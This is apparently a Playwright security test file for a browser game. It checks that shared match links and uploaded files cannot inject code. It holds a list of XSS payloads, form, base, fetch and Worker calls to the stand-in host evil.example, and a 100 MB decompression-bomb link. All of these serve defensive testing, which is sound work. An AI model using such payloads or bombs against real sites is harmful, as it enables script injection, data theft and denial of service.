// Links and files from strangers, opened from a host that sends none of our headers: the page guards itself.
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { extname, join, normalize } from 'node:path'
import { fileURLToPath } from 'node:url'
import { deflateRawSync, inflateRawSync } from 'node:zlib'
import type { Page } from '@playwright/test'
import { mouse, play, startMatch } from './player.ts'
import { trial as base, expect } from './test.ts'

const DIST = fileURLToPath(new URL('../dist', import.meta.url))
const TYPES: Readonly<Record<string, string>> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.svg': 'image/svg+xml',
}

/** Files and nothing else, as any host would hand them out. */
async function plainHost(): Promise<{ server: Server; address: string }> {
  const server = createServer(async ({ url = '/' }, response) => {
    const path = normalize(new URL(url, 'http://here').pathname)
    const file = await readFile(join(DIST, path === '/' ? 'index.html' : path)).catch(() => null)
    response.writeHead(file ? 200 : 404, { 'content-type': TYPES[extname(path) || '.html'] ?? 'image/webp' }).end(file)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, address: `http://localhost:${(server.address() as AddressInfo).port}/` }
}

const test = base.extend<{ host: string }>({
  host: async ({ page: _ }, use) => {
    const { server, address } = await plainHost()
    await use(address)
    server.close()
    server.closeAllConnections()
  },
})

const PLANTS = [
  '"><img src=x onerror="window.planted=1"><planted></planted>',
  '</text></g></svg><script>window.planted=1</script><planted></planted>',
  '"><form action="https://evil.example"><input name="planted"></form><base href="https://evil.example/">',
  '"><iframe srcdoc="<script>parent.planted=1</script>"></iframe>',
  '"><svg onload="window.planted=1"><animate onbegin="window.planted=1" attributeName="x" dur="1s">',
]

type Json = Record<string, unknown>

/** Puts a text in place of whatever stands under these names, anywhere. */
function plantedIn(value: unknown, names: readonly string[], plant: string): unknown {
  if (Array.isArray(value)) return value.map((part) => plantedIn(part, names, plant))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, part]) => [key, names.includes(key) ? plant : plantedIn(part, names, plant)]),
  )
}

/** The page has settled: it shows a board, or says why not; nothing that was planted stands in it. */
async function standsFirm(page: Page): Promise<void> {
  const shown = page.getByRole('slider').or(page.getByRole('alert')).or(page.getByText('Something went wrong'))
  await expect(shown.first()).toBeVisible()
  await page.waitForTimeout(400)
  const foreign = await page.evaluate(() => ({
    ran: 'planted' in window,
    stands: document.querySelectorAll(
      'planted, img[src="x"], form, base, iframe, script:not([src]), [onload], [onerror]',
    ).length,
  }))
  expect(foreign).toEqual({ ran: false, stands: 0 })
}

const linkOf = (host: string, record: unknown): string =>
  `${host}#/r/${deflateRawSync(JSON.stringify(record)).toString('base64url')}`

async function shared(page: Page, game: string, moves: number): Promise<Json> {
  await startMatch(page, game)
  await play(page, mouse(page), moves)
  await page.getByRole('button', { name: 'Menu' }).click()
  await page.getByRole('menuitem', { name: 'Share' }).click()
  const waiting = page.waitForEvent('download')
  await page.getByRole('dialog').getByRole('button', { name: 'Download the file' }).click()
  return JSON.parse(await readFile(await (await waiting).path(), 'utf8'))
}

test('markup in the units of a shared match of Rivet Wars stays text', async ({ page, host }) => {
  const record = await shared(page, 'Rivet Wars', 8)
  expect(record['format']).toBe('muster-seen')
  const bad = [
    ...PLANTS.map((plant) => plantedIn(record, ['kind'], plant)),
    ...[['deployed'], ['side', 'plugs']].map((names) => plantedIn(record, names, PLANTS[0] ?? '')),
  ]
  for (const planted of bad) {
    await page.goto('about:blank')
    await page.goto(linkOf(host, planted))
    await standsFirm(page)
  }
})

test('markup in the numbers of the soldiers of Wravity stays text, in a file too', async ({ page, host }) => {
  const record = await shared(page, 'Wravity', 4)
  for (const plant of PLANTS.slice(0, 3)) {
    const bad = JSON.stringify(plantedIn(record, ['number', 'squad', 'rank'], plant))
    await page.goto(host)
    await page
      .getByLabel('Open a file')
      .last()
      .setInputFiles({ name: 'match.json', mimeType: 'application/json', buffer: Buffer.from(bad) })
    await page.waitForURL(/#\/opened/)
    await standsFirm(page)
  }
})

test('the page forbids what it never does itself', async ({ page, host }) => {
  const sent: string[] = []
  page.on('request', (r) => !r.url().startsWith(host) && !/^(data|blob):/.test(r.url()) && sent.push(r.url()))
  await page.goto(host)
  await expect(page.getByRole('button', { name: /^Play now/ }).first()).toBeVisible()
  const done = await page.evaluate(async () => {
    const tried = (work: () => unknown): string => {
      try {
        work()
        return 'done'
      } catch (error) {
        return error instanceof Error ? error.name : 'failed'
      }
    }
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
    const fetched = await fetch('https://evil.example/').then(
      () => 'done',
      (error: Error) => error.name,
    )
    return {
      html: tried(() => document.body.insertAdjacentHTML('beforeend', '<b>planted</b>')),
      script: tried(() => Object.assign(document.createElement('script'), { textContent: 'planted()' })),
      code: tried(() => new Worker('https://evil.example/x.js')),
      policy: tried(() =>
        (window as { trustedTypes?: { createPolicy(name: string, rules: object): void } }).trustedTypes?.createPolicy(
          'evil',
          {},
        ),
      ),
      fetched,
      address: document.baseURI.startsWith(location.origin),
    }
  })
  expect(done).toEqual({
    html: 'TypeError',
    script: 'TypeError',
    code: 'TypeError',
    policy: 'TypeError',
    fetched: 'TypeError',
    address: true,
  })
  await page.waitForTimeout(300)
  expect(page.url().startsWith(host)).toBe(true)
  expect(sent).toEqual([])
})

test('a link that unpacks to far too much says so at once', async ({ page, host }) => {
  const bomb = deflateRawSync(Buffer.alloc(100_000_000, 32), { level: 9 }).toString('base64url')
  expect(inflateRawSync(Buffer.from(bomb, 'base64url')).length).toBe(100_000_000)
  await page.goto(`${host}#/r/${bomb}`)
  await expect(page.getByRole('alert')).toContainText('too long: more than 8 million')
})

test('a link that is nested without end says so', async ({ page, host }) => {
  const deep = deflateRawSync('['.repeat(20_000)).toString('base64url')
  await page.goto(`${host}#/r/${deep}`)
  await expect(page.getByRole('alert')).toContainText('nested too deeply')
})
